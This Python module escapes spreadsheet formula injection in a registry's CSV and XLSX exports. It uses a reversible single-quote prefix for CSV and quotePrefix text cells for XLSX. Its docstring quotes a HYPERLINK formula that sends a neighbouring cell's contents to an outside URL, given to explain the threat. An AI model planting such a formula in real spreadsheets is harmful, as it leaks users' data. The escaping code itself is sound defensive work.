"""Text that a spreadsheet program would take for a formula, and its one escape.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` — or with a tab or a carriage return,
which Excel skips before one of them — is run as a formula when a CSV file is opened
(``=HYPERLINK("http://…?x="&A1,"click")`` sends the neighbouring cell away), and a value
written to a workbook as such a string becomes a live ``<f>`` cell. Every CSV and XLSX the
registry writes escapes it here, and the CSV reader undoes exactly that escape, so that an
export imported again gives back the original text:

* CSV: the OWASP prefix, a single quote before the text. To keep the escape reversible, a text
  that already begins with quotes followed by one of those characters gets one more quote; the
  reader removes one quote from any text of that shape.
* XLSX: the text is written as a text cell (never a formula) with Excel's ``quotePrefix`` set,
  so editing the cell keeps it text; the text itself is unchanged.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a cell may begin with for a spreadsheet program to read it as a formula (OWASP)."""
ERROR_LITERALS = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
"""Texts a workbook would store as an error value rather than as text."""
QUOTE = "'"
_STARTS = re.escape("".join(FORMULA_STARTS))
_ESCAPE = re.compile(f"'*[{_STARTS}]")
_UNESCAPE = re.compile(f"'+[{_STARTS}]")
# Characters XML 1.0 (and so XLSX) cannot hold: C0 controls but tab and line breaks, and lone
# surrogates (which no UTF-8 file can hold either).
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS)


def escape_csv(text: str) -> str:
    """``text`` as a CSV cell: a formula-like text gets the quote prefix (reversible)."""
    if text[:1] in FORMULA_STARTS or (text[:1] == QUOTE and _ESCAPE.match(text)):
        return QUOTE + text
    return text


def unescape_csv(text: str) -> str:
    """The inverse of :func:`escape_csv`: one leading quote removed from an escaped text."""
    if text[:1] == QUOTE and _UNESCAPE.match(text):
        return text[1:]
    return text


def writable(text: str) -> str:
    """``text`` with the characters no XLSX (controls) or UTF-8 file (lone surrogates) can hold
    replaced by U+FFFD — what a report quoting a broken cell needs."""
    return _UNWRITABLE.sub("\ufffd", text)
